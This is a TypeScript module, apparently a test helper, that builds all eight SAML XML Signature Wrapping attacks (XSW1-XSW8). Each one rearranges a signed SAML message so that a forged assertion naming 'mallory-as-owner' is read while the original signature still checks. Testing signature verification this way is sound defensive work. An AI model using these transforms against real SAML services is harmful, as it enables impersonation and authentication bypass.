import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { newId } from './saml-idp.js';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

/** What an attacker wants to be read. */
export const EVIL = 'mallory-as-owner';

type Shape = (document: Document) => void;

/**
 * The eight shapes of signature wrapping (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX
 * Security 2012; numbered as SAML Raider does): the signed element stays somewhere, where its signature still fits, and
 * another one is where it is looked for.
 */
export const WRAPPINGS: Readonly<Record<string, Shape>> = {
  'XSW1: the signed response within the signature of an evil one': (document) => {
    const root = rootOf(document);
    const signature = only(root, DSIG, 'Signature');
    const original = without(clone(root), 'Signature');
    makeEvil(root);
    signature.appendChild(original);
  },
  'XSW2: the signed response before the signature of an evil one': (document) => {
    const root = rootOf(document);
    const signature = only(root, DSIG, 'Signature');
    const original = without(clone(root), 'Signature');
    makeEvil(root);
    root.insertBefore(original, signature);
  },
  'XSW3: an evil assertion before the signed one': (document) => {
    const assertion = assertionOf(document);
    const evil = makeEvil(without(clone(assertion), 'Signature'));
    rootOf(document).insertBefore(evil, assertion);
  },
  'XSW4: the signed assertion within an evil one': (document) => {
    const assertion = assertionOf(document);
    const evil = makeEvil(without(clone(assertion), 'Signature'));
    rootOf(document).replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  'XSW5: an evil assertion with the signature of another, which comes last': (document) => {
    const assertion = assertionOf(document);
    const original = without(clone(assertion), 'Signature');
    makeEvil(assertion);
    rootOf(document).appendChild(original);
  },
  'XSW6: an evil assertion with a signature that holds the signed one': (document) => {
    const assertion = assertionOf(document);
    const original = without(clone(assertion), 'Signature');
    makeEvil(assertion);
    only(assertion, DSIG, 'Signature').appendChild(original);
  },
  'XSW7: an evil assertion within extensions': (document) => {
    const assertion = assertionOf(document);
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(makeEvil(without(clone(assertion), 'Signature')));
    rootOf(document).insertBefore(extensions, assertion);
  },
  'XSW8: the signed assertion within an object of the signature of an evil one': (document) => {
    const assertion = assertionOf(document);
    const original = without(clone(assertion), 'Signature');
    makeEvil(assertion);
    const object = document.createElementNS(DSIG, 'ds:Object');
    object.appendChild(original);
    only(assertion, DSIG, 'Signature').appendChild(object);
  },
};

/** Changes a message as a tree. */
export function reshaped(xml: string, shape: Shape): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  shape(document);
  return new XMLSerializer().serializeToString(document);
}

export function rootOf(document: Document): Element {
  const root = document.documentElement;
  if (!root) throw new Error('The message has no root.');
  return root;
}

export function only(parent: Element | Document, namespace: string, name: string): Element {
  const [found] = Array.from(parent.getElementsByTagNameNS(namespace, name));
  if (!found) throw new Error(`There is no ${name}.`);
  return found;
}

export function assertionOf(document: Document): Element {
  return only(document, 'urn:oasis:names:tc:SAML:2.0:assertion', 'Assertion');
}

/** Another subject, and other IDs. */
function makeEvil(element: Element): Element {
  element.setAttribute('ID', newId());
  for (const inner of Array.from(element.getElementsByTagName('saml:Assertion')))
    inner.setAttribute('ID', newId());
  const name = only(element, 'urn:oasis:names:tc:SAML:2.0:assertion', 'NameID');
  name.textContent = EVIL;
  return element;
}

function clone(element: Element): Element {
  return element.cloneNode(true) as Element;
}

function without(element: Element, name: string): Element {
  for (const child of Array.from(element.childNodes))
    if ((child as Element).localName === name) element.removeChild(child);
  return element;
}
